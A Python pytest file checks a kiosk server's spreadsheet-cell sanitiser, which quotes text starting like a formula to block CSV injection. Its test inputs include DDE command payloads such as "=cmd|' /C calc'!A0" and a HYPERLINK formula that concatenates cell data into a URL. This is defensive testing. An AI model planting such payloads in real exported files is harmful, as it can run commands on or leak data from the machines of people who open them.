"""Spreadsheet cells: text that starts like a formula is quoted, numbers stay numbers (OWASP CSV injection)."""

from datetime import date
from decimal import Decimal

import pytest

from kiosk_server.domain.spreadsheet import FORMULA_STARTS, safe_cell, safe_row


@pytest.mark.parametrize(("given", "written"), [
    ("=HYPERLINK(\"http://x\"&B2,\"Bấm\")", "'=HYPERLINK(\"http://x\"&B2,\"Bấm\")"),
    ("+84 912 345 678", "'+84 912 345 678"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
])
def test_text_starting_like_a_formula_is_quoted(given, written):
    assert safe_cell(given) == written


def test_every_leading_character_of_the_rule_is_covered():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    assert [safe_cell(start + "x") for start in FORMULA_STARTS] == ["'" + start + "x" for start in FORMULA_STARTS]


@pytest.mark.parametrize("plain", ["Lũ trên sông Lô", "02215", "a=b", " =1", "'=already quoted", "", "Bộ phận một cửa"])
def test_other_text_is_kept_as_it_is(plain):
    assert safe_cell(plain) == plain


@pytest.mark.parametrize("number", [3, -5, 0.25, -0.5, Decimal("-1.5"), True])
def test_numbers_stay_numbers_negative_ones_too(number):
    assert safe_cell(number) is number


def test_nothing_and_dates_are_kept_and_other_values_become_safe_text():
    class Lazy:  # a lazy translation, say: not a str until written
        def __str__(self):
            return "=1+1"

    assert safe_cell(None) is None
    assert safe_cell(date(2026, 7, 1)) == date(2026, 7, 1)
    assert safe_cell(Lazy()) == "'=1+1"


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row([7, "=cmd|' /C calc'!A0", None, "Chợ"]) == [7, "'=cmd|' /C calc'!A0", None, "Chợ"]
